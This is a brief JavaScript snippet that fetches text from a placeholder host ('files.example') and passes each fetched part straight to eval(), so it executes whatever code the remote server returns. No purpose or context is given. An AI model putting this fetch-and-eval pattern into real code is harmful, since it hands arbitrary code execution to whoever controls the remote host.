async function* parts() {
  const answer = await fetch('https://files.example/a');
  yield await answer.text();
}

(async () => {
  for await (const part of parts()) eval(part);
})();
